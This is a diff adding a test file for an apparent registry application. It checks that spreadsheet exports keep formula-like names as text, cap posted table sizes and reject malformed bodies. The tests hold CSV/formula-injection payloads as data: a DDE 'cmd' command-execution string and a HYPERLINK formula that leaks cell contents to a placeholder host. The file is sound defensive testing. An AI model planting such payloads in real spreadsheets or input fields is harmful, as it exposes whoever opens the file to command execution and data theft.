@@ -1,0 +1,192 @@
+"""Workbooks gridreg writes are safe to open: text that looks like a formula stays text, a
+stored control character cannot break an export, and a posted table workbook is bounded and
+built off the event loop."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.workbook import Workbook
+from sqlalchemy import update
+
+from registry.core.models import Place
+from registry.reports.workbooks import Table
+from registry.web import downloads
+from tests.support import Registry
+from tests.workbooks import two_communities
+
+RENAME = """
+mutation($place: String!, $name: String!) {
+  updatePlace(input: {place: $place, name: $name}) { userErrors { code } }
+}"""
+
+# Names an organiser may type or a workbook may bring; none may run as a formula.
+ATTACKS = {
+    "A-E-B2": "=cmd|' /C calc'!A0",  # set through the API
+    "B-E-B2": '=HYPERLINK("http://x/?"&A1,"x")',  # brought by an import
+}
+
+
+async def world_with_formulas(registry: Registry) -> None:
+    """Two communities whose uncovered buildings (gaps in every coverage report) carry names
+    that look like formulas, and one stored before control characters were refused."""
+    rows = two_communities()
+    for place in rows["places"]:
+        if place["code"] == "B-E-B2":
+            place["name"] = ATTACKS["B-E-B2"]
+    await registry.load(rows)
+    api = await registry.client()
+    answer = await api(RENAME, {"place": "A-E-B2", "name": ATTACKS["A-E-B2"]})
+    assert answer["updatePlace"]["userErrors"] == []
+    async with registry.db.write() as session:
+        await session.execute(update(Place).where(Place.code == "A-E").values(name="A\x01小区"))
+
+
+async def viewer(registry: Registry) -> dict[str, str]:
+    """Headers of a community viewer: the least a caller of the downloads may be."""
+    await registry.load(two_communities())
+    return {"Authorization": f"Bearer {await registry.token('viewer', 'A-DW')}"}
+
+
+def text_cells(book: Workbook) -> dict[str, str]:
+    """Every text cell of a workbook by its value, with its stored type."""
+    return {
+        cell.value: cell.data_type
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+
+
+def assert_no_formula(book: Workbook) -> None:
+    cells = text_cells(book)
+    for name in ATTACKS.values():
+        assert cells.get(name) == "s", f"{name!r} is not a text cell: {cells.get(name)}"
+    assert all(kind == "s" for kind in cells.values())
+
+
+async def test_names_that_look_like_formulas_are_text_in_the_command_line_export(
+    registry: Registry, tmp_path: Path
+) -> None:
+    await world_with_formulas(registry)
+    out = tmp_path / "coverage.xlsx"
+
+    process = await asyncio.create_subprocess_exec(
+        sys.executable, "-m", "registry.cli.main", "--database", registry.db.url,
+        "export", "coverage", "--scope", "S", "--out", str(out),
+        stderr=asyncio.subprocess.PIPE,
+    )  # fmt: skip
+    _, stderr = await process.communicate()
+
+    assert process.returncode == 0, stderr.decode()
+    assert_no_formula(load_workbook(out))
+
+
+async def test_names_that_look_like_formulas_are_text_in_the_console_downloads(
+    registry: Registry,
+) -> None:
+    await world_with_formulas(registry)
+    headers = {"Authorization": f"Bearer {await registry.token('admin')}"}
+
+    coverage = await registry.http.get("/console/export/coverage.xlsx?scope=S", headers=headers)
+    table = await registry.http.post(
+        "/console/export/table.xlsx",
+        json={"tables": [{"title": "=1+1", "columns": ["@SUM(A1)", "+1"],
+                          "rows": [["=1+1", "-1", 3, None, "\tx"]]}]},
+        headers=headers,
+    )  # fmt: skip
+
+    assert coverage.status_code == 200, coverage.text
+    assert_no_formula(load_workbook(io.BytesIO(coverage.content)))
+    assert table.status_code == 200, table.text
+    sheet = load_workbook(io.BytesIO(table.content)).worksheets[0]
+    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [("=1+1", "s"), ("-1", "s")]
+    assert [(c.value, c.data_type) for c in sheet[1] if c.value] == [("@SUM(A1)", "s"), ("+1", "s")]
+
+
+async def test_a_posted_workbook_over_a_bound_is_refused_and_says_which(
+    registry: Registry,
+) -> None:
+    headers = await viewer(registry)
+    empty = {"columns": [], "rows": []}
+    over = {
+        "tables": {"tables": [empty] * (downloads.MAX_TABLES + 1)},
+        "columns": {"tables": [{"columns": ["c"] * (downloads.MAX_COLUMNS + 1), "rows": []}]},
+        "cells": {"tables": [{"columns": ["a"] * 50, "rows": [["x"] * 50] * 4_001}]},
+        "characters in one cell": {
+            "tables": [{"columns": ["a"], "rows": [["x" * (downloads.MAX_TEXT + 1)]]}]
+        },
+    }
+    for limit, body in over.items():
+        response = await registry.http.post(
+            "/console/export/table.xlsx", json=body, headers=headers
+        )
+        assert response.status_code == 413, (limit, response.text)
+        refusal = response.json()
+        assert refusal["code"] == "LIMIT_EXCEEDED"
+        assert refusal["params"]["limit"] == limit
+
+
+async def test_malformed_table_bodies_get_a_coded_400(registry: Registry) -> None:
+    headers = await viewer(registry) | {"Content-Type": "application/json"}
+    bodies = [b"null", b"1", b'"x"', b"[]", b'{"tables": 5}', b'{"tables": [1]}',
+              b'{"tables": [{"columns": [], "rows": [1]}]}',
+              b'{"tables": [{"columns": [], "rows": [[{"a": 1}]]}]}',
+              b"\xff\xfe not utf-8", b"{not json"]  # fmt: skip
+    for body in bodies:
+        response = await registry.http.post(
+            "/console/export/table.xlsx", content=body, headers=headers
+        )
+        assert response.status_code == 400, (body, response.text)
+        assert response.json()["code"] == "BAD_REQUEST", body
+
+
+async def test_a_workbook_is_built_while_the_server_keeps_answering(
+    registry: Registry, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Building a workbook holds no request up: given one that takes two seconds to build,
+    /healthz answers at once meanwhile, because workbooks are built off the event loop."""
+    headers = await viewer(registry)
+    slow_build = downloads.workbook_bytes
+
+    def slow(tables: list[Table]) -> bytes:
+        time.sleep(2)  # as a large workbook keeps a CPU busy
+        return slow_build(tables)
+
+    monkeypatch.setattr(downloads, "workbook_bytes", slow)
+    export = asyncio.create_task(
+        registry.http.post(
+            "/console/export/table.xlsx",
+            json={"tables": [{"columns": ["n"], "rows": [[1]]}]},
+            headers=headers,
+        )
+    )
+    await asyncio.sleep(0.5)  # the workbook is being built
+    started = time.perf_counter()
+    health = await registry.http.get("/healthz")
+    waited = time.perf_counter() - started
+    response = await export
+
+    assert health.status_code == 200 and response.status_code == 200, response.text
+    assert waited < 1.0, f"/healthz waited {waited:.1f} s for a workbook"
+
+
+async def test_the_largest_workbook_the_bounds_allow_fits_the_body_limit_and_builds(
+    registry: Registry,
+) -> None:
+    headers = await viewer(registry)
+    rows = [[i % 10] * 20 for i in range(downloads.MAX_CELLS // 20 - 1)]
+    response = await registry.http.post(
+        "/console/export/table.xlsx",
+        json={"tables": [{"columns": ["n"] * 20, "rows": rows}]},
+        headers=headers,
+    )
+    assert response.status_code == 200, response.text
+    assert load_workbook(io.BytesIO(response.content)).worksheets[0].max_row == len(rows) + 1
